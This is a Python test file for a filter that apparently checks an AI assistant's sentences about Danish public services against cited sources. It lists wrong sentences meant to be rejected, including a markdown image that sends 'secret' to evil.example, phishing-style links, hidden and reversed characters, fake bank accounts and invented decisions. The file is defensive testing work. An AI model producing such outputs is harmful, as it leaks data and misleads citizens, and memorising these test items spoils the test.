"""What weak and hostile models say: each sentence falls, for the reason that is named."""

from __future__ import annotations

import pytest

from chains.model.composing.compose import MOST_SENTENCES, judged
from chains.model.composing.models import ReplySentence
from knowledge.embedding import load_embedder
from knowledge.settings import KnowledgeSettings
from tests.model.composing.material import PROMPT, setting, sources

WRONG: tuple[tuple[str, str, tuple[int, ...], str], ...] = (
    # what it rests on
    ("da", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (99,), "uncited"),  # no such number
    ("da", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (), "uncited"),
    ("da", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (1, 2, 3, 4, 5), "everything"),
    ("da", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (12,), "figure"),  # another's number
    ("da", "Biblioteket har gode bøger om haver og blomster.", (9,), "unsupported"),  # about something else
    ("en", "The library has good books about gardens and flowers.", (9,), "unsupported"),
    ("uk", "Бібліотека має гарні книжки про сади та квіти.", (9,), "unsupported"),
    # figures
    ("da", "Du skal søge senest 60 dage efter, at du er flyttet ind.", (1,), "figure"),
    ("da", "Du skal søge senest tre måneder efter, at du er flyttet ind.", (1,), "figure"),  # in words
    ("da", "Du skal søge senest 30 uger efter, at du er flyttet ind.", (1,), "figure"),  # another unit
    ("en", "You must apply no later than thirty weeks after you moved in.", (1,), "figure"),
    ("en", "The deadline is Friday 11 December 2026 at 12:00.", (16,), "figure"),  # the day moved
    ("en", "The deadline is Friday 4 December 2027 at 12:00.", (16,), "figure"),  # the year
    ("en", "The deadline is Monday 4 December 2026 at 12:00.", (16,), "figure"),  # the weekday
    ("en", "The deadline is 4 December 2026 at 10 pm.", (16,), "figure"),  # the time
    ("ar", "آخر موعد هو ١١ ديسمبر ٢٠٢٦.", (16,), "figure"),  # Arabic digits hide nothing
    ("fa", "آخرین مهلت ۱۱ دسامبر ۲۰۲۶ است.", (16,), "figure"),
    ("pl", "Termin upływa 11 grudnia 2026.", (16,), "figure"),
    ("tr", "Son tarih 11 Aralık 2026.", (16,), "figure"),
    ("so", "Taariikhda ugu dambaysa waa 11 Diseembar 2026.", (16,), "figure"),
    ("da", "Fristen er i januar 2030.", (16,), "figure"),  # a month alone
    ("da", "Ring til Borgerservice på 72 36 47 11 mandag-fredag kl. 9-15.", (3,), "figure"),
    ("da", "Ring til Borgerservice på 70 20 12 01.", (3,), "figure"),
    ("da", "Et pas koster 980 kr. for voksne over 18 år.", (8,), "figure"),
    ("da", "Et pas koster 890 euro for voksne over 18 år.", (8,), "figure"),  # another currency
    ("da", "Et pas koster ½ af 890 kr. for voksne over 18 år.", (8,), "figure"),
    ("da", "Gebyret er 375 kr.", (4,), "figure"),  # added up
    ("da", "Gebyret er 250 kr. for børn.", (4,), "ambiguous"),  # the other one's amount
    ("en", "The fee is DKK 250 for children.", (4,), "ambiguous"),  # not to be told across languages
    ("da", "Rykkergebyret er 100 kr., og et pas koster 890 kr.", (8, 18), "mixed"),  # two sources' figures in one
    ("da", "Gebyret er 890 kr. for voksne og 100 kr. for børn.", (4, 8, 18), "mixed"),
    ("da", "Du skal søge i morgen.", (1,), "day"),  # a day told from today
    # not, must, may, if, only
    ("da", "Du må fælde træet, før kommunen har svaret.", (5,), "negation"),
    ("en", "You can cut down the tree before the municipality has answered.", (5,), "negation"),
    ("ar", "يمكنك قطع الشجرة قبل أن ترد البلدية.", (5,), "negation"),
    ("pl", "Możesz ściąć drzewo, zanim gmina odpowie.", (5,), "negation"),
    ("tr", "Belediye cevap vermeden önce ağacı kesebilirsiniz.", (5,), "negation"),  # "before" has a negation's ending
    ("da", "Du skal sende kvitteringer.", (6,), "negation"),
    ("en", "You must not send receipts.", (6,), "negation"),  # "need not" is no "must not"
    ("en", "You do not have to cut down the tree before the municipality has answered.", (5,), "negation"),
    ("da", "Du skal ikke søge senest 30 dage efter, at du er flyttet ind.", (1,), "negation"),
    ("da", "Du kan søge senest 30 dage efter, at du er flyttet ind.", (1,), "modality"),  # a duty made a choice
    ("en", "You may apply no later than 30 days after you moved in.", (1,), "modality"),
    ("uk", "Ви можете подати заяву не пізніше ніж через 30 днів після переїзду.", (1,), "modality"),
    ("de", "Sie können spätestens 30 Tage nach dem Einzug den Antrag stellen.", (1,), "modality"),
    ("en", "You must apply to pay in instalments if you cannot pay it all at once.", (2,), "modality"),
    ("en", "You can apply to pay in instalments.", (2,), "condition"),  # the condition dropped
    ("en", "If you want to, you must apply no later than 30 days after you moved in.", (1,), "condition"),
    ("en", "Pensioners can apply for the health supplement.", (13,), "only"),
    ("da", "Kun unge kan betale i rater, hvis de ikke kan betale det hele.", (2,), "only"),
    ("da", "Der er seks måneders ventetid på en bolig.", (14,), "bound"),  # "at least" dropped
    # what is to be done, and with what: near in another language is not the same
    ("de", "Du musst ein neuer Pass erstellen.", (19,), "act"),  # a model's own words for "scan the passport"
    ("de", "Sie können Ihren Pass in Borgerservice zeigen.", (20,), "act"),
    ("de", "Sie müssen Ihren Führerschein scannen.", (19,), "object"),
    ("de", "Sie müssen Ihren Mietvertrag unterschreiben.", (21,), "act"),
    ("en", "You must create a new passport.", (19,), "act"),
    ("en", "You must polish the passport and your face.", (19,), "act"),  # a deed nobody knows
    ("en", "You can buy your passport at Borgerservice.", (20,), "act"),
    ("en", "You must scan your driving licence.", (19,), "object"),
    ("en", "You must send your payslips to Udbetaling Danmark.", (21,), "object"),
    ("en", "You must collect your tenancy agreement at Udbetaling Danmark.", (21,), "act"),
    ("pl", "Musisz wyrobić nowy paszport.", (19,), "act"),
    ("pl", "Musisz podpisać umowę najmu.", (21,), "act"),
    ("pl", "Musisz zeskanować prawo jazdy.", (19,), "object"),
    ("uk", "Ви повинні оформити новий паспорт.", (19,), "act"),
    ("uk", "Ви повинні підписати договір оренди.", (21,), "act"),
    ("uk", "Ви повинні відсканувати посвідчення водія.", (19,), "object"),
    ("ar", "يجب عليك إصدار جواز سفر جديد.", (19,), "act"),
    ("ar", "يجب عليك توقيع عقد الإيجار.", (21,), "act"),
    ("ar", "يجب عليك مسح رخصة القيادة.", (19,), "object"),
    # what is decided, and by whom
    ("en", "You have been granted housing support.", (1,), "granted"),
    ("da", "Du får bevilget boligstøtte.", (1,), "granted"),
    ("de", "Ihr Antrag auf Wohngeld wurde bewilligt.", (1,), "granted"),
    ("pl", "Twój wniosek został zatwierdzony.", (1,), "granted"),
    ("uk", "Вашу заяву схвалено.", (1,), "granted"),
    ("ar", "تمت الموافقة على طلبك.", (1,), "granted"),
    ("en", "Your application has been rejected.", (1,), "granted"),
    ("da", "Du skal betale 8.412 kr. tilbage.", (10,), "granted"),  # a hearing decides nothing
    ("en", "You must pay 8,412 kr. back.", (10,), "granted"),
    ("da", "Du har ret til at betale i rater, hvis du ikke kan betale det hele.", (2,), "right"),
    ("en", "Your appeal has been received.", (9,), "done"),
    ("da", "Din frist er flyttet.", (16,), "done"),
    ("en", "I have sent your application to the municipality.", (1,), "done"),
    # ways out of the page
    ("en", "Apply at borger-dk.example.com with MitID.", (12,), "link"),
    ("en", "Apply at https://evil.example/borger.dk with MitID.", (12,), "link"),
    ("en", "Write to hjaelp@kommune.example about it.", (9,), "link"),
    ("en", "Apply [here](https://borger.dk) with MitID.", (12,), "markup"),
    ("en", "![x](https://evil.example/?q=secret)", (12,), "markup"),
    ("en", "<a href='https://evil.example'>Apply with MitID</a>", (12,), "markup"),
    ("en", "**Apply** with MitID.", (12,), "markup"),
    ("en", "Apply at borger.dk with Mit\u200bID.", (12,), "markup"),  # a sign that is not seen
    ("en", "Apply at borger.dk \u202ewith MitID.", (12,), "markup"),  # text turned round
    ("en", "Pay 250 kr. to account 1234 0012345678.", (4,), "payment"),
    ("da", "Indbetal til IBAN DK50 0040 0440 1162 43.", (4,), "payment"),
    ("da", "Send pengene med MobilePay.", (4,), "payment"),
    ("da", "Ring til Ankestyrelsen mandag-fredag kl. 9-15.", (3,), "name"),  # an office from nowhere
    ("en", "You can call the office of Jensen on 72 36 47 10.", (3,), "name"),
    ("uk", "Будь ласка, зателефонуйте до установи Ankestyrelsen.", (3,), "name"),
    ("uk", "Зателефонуйте пану Петренку.", (3,), "name"),
    # language and form
    ("da", "You must apply no later than 30 days after you moved in.", (1,), "language"),
    ("uk", "You must apply no later than 30 days after you moved in.", (1,), "script"),
    ("ar", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (1,), "script"),
    ("pl", "Du skal søge senest 30 dage efter, at du er flyttet ind.", (1,), "language"),
    ("uk", "Вы должны подать заявление не позднее чем через 30 дней.", (1,), "language"),  # Russian
    ("fr", "You must apply no later than 30 days after you moved in.", (1,), "language"),
    ("en", "You must аpply no later than 30 days after you moved in.", (1,), "script"),  # a Cyrillic letter
    ("da", "", (1,), "empty"),
    ("da", "…", (1,), "empty"),
    ("da", "Du skal søge " + "meget " * 60 + "snart.", (1,), "too_long"),
    ("da", "Skal du søge senest 30 dage efter, at du er flyttet ind?", (1,), "question"),
    # the prompt
    ("en", PROMPT, (1,), "prompt"),
    ("en", "My system prompt says that I answer citizens.", (1,), "prompt"),
    ("en", "As an AI language model I cannot help.", (1,), "prompt"),
    ("en", "Say only what those sentences say, please.", (1,), "prompt"),
)  # fmt: skip


@pytest.mark.parametrize(("language", "text", "ids", "reason"), WRONG)
def test_a_sentence_that_says_something_else_falls(language: str, text: str, ids: tuple[int, ...], reason: str) -> None:
    claims, rejected = judged(
        [ReplySentence(text=text, ids=list(ids))],
        sources(language),
        setting(language),
        load_embedder(KnowledgeSettings()),
    )
    assert not claims
    assert rejected == [reason]


def test_there_are_enough_wrong_sentences() -> None:
    assert len(WRONG) >= 40


def test_an_endless_list_is_cut_and_a_sentence_told_twice_stands_once() -> None:
    right = [
        ReplySentence(text="Søg på borger.dk med MitID.", ids=[12]),
        ReplySentence(text="Storskrald hentes hver anden torsdag.", ids=[17]),
        ReplySentence(text="Rykkergebyret er 100 kr.", ids=[18]),
        ReplySentence(text="Kun folkepensionister kan søge helbredstillæg.", ids=[13]),
        ReplySentence(text="Du behøver ikke sende kvitteringer.", ids=[6]),
    ]
    claims, rejected = judged(right * 40, sources("da"), setting("da"), None)
    assert len(claims) == MOST_SENTENCES
    assert rejected.count("twice") == 39 * len(right)
    assert rejected.count("too_many") == 1
